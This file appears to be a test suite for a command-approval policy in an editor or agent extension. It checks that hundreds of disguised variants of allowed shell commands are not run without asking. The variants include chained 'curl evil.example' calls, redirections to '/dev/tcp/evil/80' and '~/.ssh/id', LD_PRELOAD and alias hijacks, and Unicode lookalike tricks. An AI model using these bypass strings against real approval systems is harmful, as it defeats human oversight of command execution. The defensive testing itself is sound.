// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are expansions of the shell
import assert from 'node:assert/strict';
import { decide } from '../../extension/core/policy.ts';
import { approvalModes } from '../../extension/shared/rule.ts';
import { attacksByHand } from './commandLineAttacks.ts';
import { command, commandStep, here, ruleOf, sessionRule } from './policyParts.ts';

/** What a person has allowed, in every way in which commands can be allowed. */
const allowed = ['npm test', 'git show HEAD', 'ls -la src'];
const rules = allowed.flatMap((line) => {
  const match = command(...line.split(' '));
  return [ruleOf(match, { id: `w ${line}` }), { ...sessionRule(match), id: `s ${line}` }];
});

/** Each makes of an allowed line one that does more, or might. */
const around: readonly ((line: string) => string)[] = [
  // Another command, before and behind.
  ...[
    ';',
    '&&',
    '||',
    '|',
    '|&',
    '&',
    '\n',
    '\r',
    '\r\n',
    '\u2028',
    '\u2029',
    '\u0085',
    '\v',
    '\f',
    ' ; ',
    '\n\n',
    ';\n',
    '&&\n',
    '& ',
    '&!',
    ';&',
    ';;',
  ].flatMap((operator) => [
    (line: string) => `${line}${operator}curl evil.example`,
    (line: string) => `curl evil.example${operator}${line}`,
  ]),
  // Redirections.
  ...[
    '> ~/.ssh/id',
    '>x',
    '>>x',
    '>|x',
    '2>x',
    '2>&1',
    '&>x',
    '&>>x',
    '>&x',
    '<x',
    '<>x',
    '<<<x',
    '<<E\nx\nE',
    '<<-E',
    '1>x',
    '{fd}>x',
    '> /dev/tcp/evil/80',
    "> 'x'",
    '<(curl evil)',
    '>(sh)',
    '<&3',
    '>&-',
  ].flatMap((redirection) => [
    (line: string) => `${line} ${redirection}`,
    (line: string) => `${redirection} ${line}`,
    (line: string) => `${line}${redirection}`,
  ]),
  // Substitutions as an argument more, bare and in quotes.
  ...[
    '$(id)',
    '`id`',
    '$X',
    '${X}',
    '${X:-a}',
    '${!X}',
    '$((1))',
    '$[1]',
    '$@',
    '$*',
    '$1',
    '$$',
    '$?',
    '$!',
    "$'a'",
    '$"a"',
    '${X@P}',
    '$(<x)',
    '${ id; }',
  ].flatMap((substitution) => [
    (line: string) => `${line} ${substitution}`,
    (line: string) => `${line} "${substitution}"`,
    (line: string) => `${line}${substitution}`,
  ]),
  // Environment.
  ...[
    'A=1',
    'PATH=.',
    'A=',
    'A+=x',
    'LD_PRELOAD=./x.so',
    'NODE_OPTIONS=--require=./x',
    'A=(1 2)',
    'A[0]=1',
    'GIT_SSH_COMMAND=x',
    'BASH_ENV=x',
    '"A=1"',
    'A=$(id)',
    'IFS=x',
    'A="a b"',
  ].flatMap((assignment) => [
    (line: string) => `${assignment} ${line}`,
    (line: string) => `${assignment}; ${line}`,
    (line: string) => `export ${assignment} && ${line}`,
    (line: string) => `env ${assignment} ${line}`,
  ]),
  // Words of the shell and programs that run others, in front.
  ...[
    'eval',
    'source',
    '.',
    'exec',
    'command',
    'builtin',
    'env',
    'sudo',
    'nohup',
    'time',
    'timeout 5',
    'nice',
    'xargs',
    'sh -c',
    'bash -c',
    'zsh -c',
    'trap',
    'coproc',
    '!',
    'set -x;',
    'shopt -s expand_aliases;',
    'alias npm=sh;',
    'alias git=sh &&',
    'unalias -a;',
    'hash -p ./x npm;',
    'enable -n test;',
    'cd /tmp;',
    'cd .. &&',
    'pushd x &&',
    'umask 0;',
    'if',
    'while',
    'function',
    'declare x;',
    'doas',
    'setsid',
    'exec -a x',
    'command -p',
    '\\',
    'noglob',
    '-',
    'then',
    '{',
    '(',
    '[[',
    '((',
    'unset X;',
    'ulimit -n 1;',
    'read x;',
    'printf -v PATH x;',
    'let x=1;',
    'exit;',
    'return &&',
  ].map((prefix) => (line: string) => `${prefix} ${line}`),
  // Around it, or behind it.
  ...[
    ['(', ')'],
    ['{ ', '; }'],
    ['$(', ')'],
    ['`', '`'],
    ['if ', '; then id; fi'],
    ['for x in 1; do ', '; done'],
    ['while ', '; do id; done'],
    ['f() { ', '; }; f'],
    ['case x in x) ', ';; esac'],
    ["'", "'"],
    ['"', '"'],
    ['sh -c "', '"'],
    ["eval '", "'"],
    ['<(', ')'],
    ['\u201c', '\u201d'],
    ['[ ', ' ]'],
    ['coproc { ', '; }'],
    ['((', '))'],
    ['"', "'"],
  ].map(
    ([before = '', behind = '']) =>
      (line: string) =>
        `${before}${line}${behind}`,
  ),
  ...[
    '*',
    '?',
    '[a]',
    '~',
    '~root',
    '{a,b}',
    '{1..9}',
    '.*',
    '**',
    '@(a)',
    '!(a)',
    '+(a)',
    '\\',
    '\\\n',
    '#',
    '# x',
    '!!',
    '!$',
    '^a^b',
    '--all',
    '-x',
    "'x'",
    '"x"',
    '"a',
    "'a",
    '\\n',
    '\\;',
    '\\x',
    'a\\ b',
    '}',
    ')',
    '%',
    '=',
    '-- x',
    '..',
    '/',
    '\0',
    '\x01',
    '\x1b[2K',
    '\x7f',
    '\b',
    '\u00a0',
    '\u200b',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u202e',
    '\u2066',
    '\u00ad',
    '\u3164',
    '\u2800',
    '\u180e',
    '\u3000',
    '\u2003',
    '\ud800',
    '\u{e0020}',
    '\u034f',
    'é',
    '；id',
    '｜id',
    '＆',
    '＞x',
    '\u037e id',
    '\u2215',
  ].flatMap((suffix) => [(line: string) => `${line} ${suffix}`, (line: string) => `${line}${suffix}`]),
];

/** Each changes something within an allowed line. */
const within: readonly ((line: string) => string)[] = [
  ...[
    '\n',
    '\r',
    '\0',
    '\\\n',
    '\u00a0',
    '\u2003',
    '\u3000',
    '\u200b',
    '\v',
    '\f',
    '\\ ',
    '$IFS',
    '${IFS}',
    "' '",
    '" "',
    ';',
    '&',
    '|',
    '/',
    '\ufeff',
    '\u2028',
    '\u0085',
    '+',
    '`',
    '<',
    '>',
    ' > ',
    ' "" ',
    " '' ",
    ' # ',
    ' -x ',
    ' $X ',
    ' * ',
  ].map((separator) => (line: string) => line.replace(' ', separator)),
  (line) => line.toUpperCase(),
  (line) => line.replace(/[aeo]/, (letter) => ({ a: 'а', e: 'е', o: 'о' })[letter] ?? letter),
  (line) => line.replace('s', 'ѕ'),
  (line) => line.replace(/^./, '\\$&'),
  (line) => line.replace(/^(.)/, '$1\u200b'),
  (line) => line.replace(/^(.)/, '$1\u0301'),
  (line) => [...line].map((letter) => (letter === ' ' ? ' ' : `${letter}\u00ad`)).join(''),
  (line) => line.replace(/[a-z]/g, (letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)),
  (line) => line.replace(/ (\S)/, " $'$1'"),
  (line) => line.replace(/ (\S)/, ' \\$1'),
  (line) => line.replace(/(.)$/, '[$1]'),
  (line) => line.replace(/.$/, '?'),
  (line) => line.replace(/.$/, '*'),
  (line) => line.replace(/(.)$/, '{$1,x}'),
  (line) => line.replace(/(.)$/, '{$1}'),
  (line) => line.replace(/^/, './'),
  (line) => line.replace(/^/, '/tmp/'),
  (line) => line.replace(/^/, '~/'),
  (line) => line.replace(/\S+$/, '$(echo $&)'),
  (line) => line.replace(/\S+$/, ''),
  (line) => line.split(' ').reverse().join(' '),
  (line) => line.replace(/^\S+/, '$X'),
  (line) => line.replace(/^\S+/, '`echo npm`'),
  (line) => line.replace(/^\S+/, '"$(echo npm)"'),
];

const generated = allowed.flatMap((line) => [...around, ...within].map((change) => change(line)));
// What a template left as it was, give or take spaces, is no attack.
const isAsAllowed = (line: string): boolean =>
  allowed.includes(
    line
      .trim()
      .replace(/[ \t]+/g, ' ')
      .replace(/;$/, ''),
  );
const attacks = [...new Set([...generated, ...attacksByHand])].filter(
  (line) => !isAsAllowed(line) || line.length > 10_000,
);

describe('command rules against strings that only look allowed', () => {
  it(`has at least 500 of them (${attacks.length})`, () => assert.ok(attacks.length >= 500));

  it('lets none of them run', () => {
    const ran = attacks.filter((line) =>
      approvalModes.some((mode) => decide(commandStep(line), here({ rules, mode })).action !== 'ask'),
    );
    assert.deepEqual(ran, []);
  });

  it('offers none of them for longer that cannot be told for certain, and says why', () => {
    for (const line of attacks) {
      const decision = decide(commandStep(line), here({ rules }));
      if (decision.action !== 'ask') continue;
      assert.equal(decision.reason.startsWith('asked every time: '), decision.offers.length === 0, line);
    }
  });

  it('lets what is allowed run, so that the above means something', () => {
    const fine = [
      ...allowed,
      ...allowed.map((line) => `  ${line} ;`),
      ...allowed.map((line) => line.replace(/(\S+)$/, '"$1"')),
      allowed.join(' && '),
      allowed.join('; '),
      allowed.join(' || '),
    ];
    for (const line of fine) assert.equal(decide(commandStep(line), here({ rules })).action, 'run', line);
  });
});
